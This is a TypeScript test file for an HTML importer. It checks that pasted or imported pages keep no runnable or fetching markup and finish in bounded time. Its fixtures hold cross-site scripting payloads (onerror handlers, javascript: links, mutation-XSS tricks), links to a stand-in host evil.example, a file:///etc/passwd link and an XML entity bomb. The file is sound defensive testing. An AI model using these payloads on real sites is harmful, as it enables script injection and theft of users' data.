import { describe, expect, it } from 'vitest';
import { parseContent } from '../../../shared/document/content-html';
import { plainText } from '../../../shared/document/plain-text';
import { serialiseContent } from '../../../shared/document/serialise-content';
import { greatestElementCount } from '../limits';
import { readHtml } from './read-html';

const prose = `<p>${'The committee met on Tuesday, heard two witnesses, and put off its decision. '.repeat(12)}</p>`;

/** What both ways of reading (a page, a paste) make of it, read back by the strict parser of the content model. */
function contentsOf(html: string): string[] {
  return [false, true].map((isPaste) => {
    const content = serialiseContent(readHtml(html, { source: '/tmp/page.html', isPaste }).blocks);
    expect(serialiseContent(parseContent(content))).toBe(content);
    return content;
  });
}

const inert: readonly { readonly name: string; readonly html: string }[] = [
  { name: 'script', html: '<script>steal()</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>' },
  { name: 'unclosed script', html: '<p>a</p><script>steal()' },
  {
    name: 'handlers',
    html: '<img src=x onerror=steal()><p onclick="steal()" onmouseover=steal()>a</p><body onload=steal()>',
  },
  {
    name: 'script links',
    html: '<a href="javascript:steal()">a</a><a href=" java\nscript:steal()">b</a><a href="&#106;avascript:steal()">c</a>',
  },
  {
    name: 'data and vbscript links',
    html: '<a href="data:text/html,<script>steal()</script>">a</a><a href="vbscript:steal()">b</a><a href="file:///etc/passwd">c</a>',
  },
  {
    name: 'iframe',
    html: '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>steal()</script>"></iframe>',
  },
  {
    name: 'form',
    html: '<form action="https://evil.example/"><input name=a value="steal"><textarea>steal()</textarea><button formaction="javascript:steal()">Send</button></form>',
  },
  {
    name: 'svg',
    html: '<svg onload=steal()><a xlink:href="javascript:steal()"><text>steal()</text></a><foreignObject><iframe src=x></iframe></foreignObject></svg>',
  },
  {
    name: 'math',
    html: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=steal()&gt;">',
  },
  {
    name: 'CSS import',
    html: '<style>@import url(https://evil.example/x.css);</style><link rel=stylesheet href=https://evil.example/x.css><p style="background:url(https://evil.example/x.png)">a</p>',
  },
  { name: 'meta refresh', html: '<meta http-equiv=refresh content="0;url=https://evil.example/"><p>a</p>' },
  { name: 'base', html: '<base href="javascript:steal()//"><a href="x">a</a>' },
  {
    name: 'template and noscript',
    html: '<template><img src=x onerror=steal()></template><noscript><p title="</noscript><img src=x onerror=steal()>">',
  },
  {
    name: 'remote picture',
    html: '<img src="https://evil.example/pixel.gif" srcset="https://evil.example/2x.gif 2x"><picture><source srcset="https://evil.example/a.webp"><img src="//evil.example/b.png"></picture>',
  },
  {
    name: 'svg picture',
    html: '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9c3RlYWwoKT4="><img src="data:text/html;base64,AAAA">',
  },
  {
    name: 'media',
    html: '<video src="https://evil.example/a.mp4" poster="https://evil.example/a.png"></video><audio src=https://evil.example/a.mp3></audio><object data="https://evil.example/"></object><embed src="https://evil.example/">',
  },
  {
    name: 'mutating markup',
    html: '<noembed><img title="</noembed><img src=x onerror=steal()>"></noembed><xmp><script>steal()</script></xmp>',
  },
  {
    name: 'broken tags',
    html: '<p <script>steal()</script><<a/href=x onclick=steal()>a</a><div/onclick=steal()<',
  },
  {
    name: 'comments',
    html: '<!--><img src=x onerror=steal()>--><!--[if IE]><script>steal()</script><![endif]--><![CDATA[<script>steal()</script>]]>',
  },
  { name: 'citation of ours', html: '<cite data-kind="entity" data-id="0190">a</cite>' },
  {
    name: 'prototype names',
    html: '<constructor>a</constructor><__proto__ __proto__=x constructor=y>b</__proto__><p constructor=x hasownproperty=y>c</p>',
  },
];

/** Markup that a browser too would let swallow everything after it. */
const swallows = /<script>steal\(\)$|<noscript><p title=/;

describe('hostile pages', () => {
  it.each(inert)('keeps nothing that runs or fetches of: $name', ({ html }) => {
    for (const content of [
      ...contentsOf(prose + html),
      ...(swallows.test(html) ? [] : contentsOf(html + prose)),
    ]) {
      expect(content).not.toMatch(
        /<(?!\/?(?:p|h[1-4]|ul|ol|li|table|tr|td|th|blockquote|pre|a|em|strong|u|s|code|sub|sup|figcaption)\b|br>|hr>)/,
      );
      expect(content).not.toMatch(/<[^>]*\b(?:on\w+|style|src|srcset|action|data-\w+)\s*=/i);
      for (const [, href] of content.matchAll(/<a href="([^"]*)"/g))
        expect(href).toMatch(/^(?:https?:|mailto:|#)/);
      expect(content).toContain('heard two witnesses');
    }
  });

  it('fetches nothing and touches no global', () => {
    const before = Object.keys(globalThis).length;
    const fetched: unknown[] = [];
    const { fetch } = globalThis;
    globalThis.fetch = (...args: unknown[]) => {
      fetched.push(args);
      return Promise.reject(new Error('no network'));
    };
    try {
      for (const { html } of inert) contentsOf(html + prose);
    } finally {
      globalThis.fetch = fetch;
    }
    expect(fetched).toEqual([]);
    expect(Object.keys(globalThis).length).toBe(before);
    expect(({} as Record<string, unknown>)['x']).toBeUndefined();
  });

  it('keeps the words of what it takes apart', () => {
    const html = `<form><p>Kept words</p></form><a href="javascript:x()">link words</a>${prose}`;
    expect(contentsOf(html).at(-1)).toContain('<p>Kept words</p>');
    expect(contentsOf(html).at(-1)).toContain('link words');
  });
});

const repeat = (part: string, count: number): string => part.repeat(count);

const heavy: readonly { readonly name: string; readonly html: () => string }[] = [
  {
    name: '100,000 nested divs',
    html: () => `${repeat('<div>', 100_000)}deep${repeat('</div>', 100_000)}${prose}`,
  },
  { name: '50,000 nested divs, unclosed', html: () => `${prose}${repeat('<div>', 50_000)}deep` },
  { name: '20,000 nested lists', html: () => `${prose}${repeat('<ul><li>a', 20_000)}` },
  { name: '20,000 nested tables', html: () => `${prose}${repeat('<table><tr><td>a', 20_000)}` },
  { name: '100,000 nested links and marks', html: () => `${prose}${repeat('<a href="#x"><b><i>a', 33_000)}` },
  { name: '10 MB of <', html: () => repeat('<', 10_000_000) + prose },
  { name: '2 MB of &', html: () => `<p>${repeat('&', 2_000_000)}</p>${prose}` },
  {
    name: '5 MB of spaces',
    html: () => `<p>a${repeat(' ', 5_000_000)}b</p><pre>a${repeat(' ', 1_000_000)}b</pre>${prose}`,
  },
  {
    name: 'an attribute of 10 MB',
    html: () => `<p class="${repeat('a ', 5_000_000)}" id="${repeat('b', 1_000_000)}">a</p>${prose}`,
  },
  {
    name: '100,000 attributes',
    html: () => `<p ${Array.from({ length: 100_000 }, (_, at) => `a${at}=b`).join(' ')}>a</p>${prose}`,
  },
  {
    name: 'an entity bomb',
    html: () =>
      `<?xml version="1.0"?><!DOCTYPE html [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 20 }, (_, at) => `<!ENTITY a${at} "${repeat(`&a${at - 1};`, 10)}">`).join('')}]><p>&a19;</p>${prose}`,
  },
  { name: 'a million entities', html: () => `<p>${repeat('&eacute;', 1_000_000)}</p>${prose}` },
  {
    name: '20,000 paragraphs',
    html: () => repeat('<p>One, two, three, and so on, said the minister.</p>', 20_000),
  },
  {
    name: '30,000 links in a paragraph',
    html: () => `<p>${repeat('<a href="https://example.org/">link, </a>and ', 30_000)}</p>`,
  },
  { name: '100,000 breaks', html: () => `${prose}<div>${repeat('<br>', 100_000)}</div>` },
  {
    name: 'spans of a table',
    html: () =>
      `${prose}<table>${repeat(`<tr>${repeat('<td colspan=1000 rowspan=65534>a', 20)}`, 500)}</table>`,
  },
  { name: 'a comment that never ends', html: () => `${prose}<!--${repeat('-', 5_000_000)}` },
];

/**
 * On an idle machine each takes under 4 seconds; what they are made to provoke took minutes. The runner's own limit, half of what the importer allows: a page that hangs fails, a busy machine does not.
 */
const longestMs = 30_000;
const longestCheckedContent = 5_000_000;

describe('pages that try to take all the time', () => {
  it.each(heavy)('reads in bounded time: $name', { timeout: longestMs }, ({ html }) => {
    const { blocks } = readHtml(html(), { source: '/tmp/page.html', isPaste: false });
    expect(plainText(blocks).length).toBeGreaterThan(0);
    const content = serialiseContent(blocks);
    if (content.length < longestCheckedContent) parseContent(content);
  });

  it('refuses more elements than an article has', { timeout: 2 * longestMs }, () => {
    const html = repeat('<i>a</i>', greatestElementCount + 1);
    expect(() => readHtml(html, { source: '', isPaste: false })).toThrow(/elements/);
  });
});
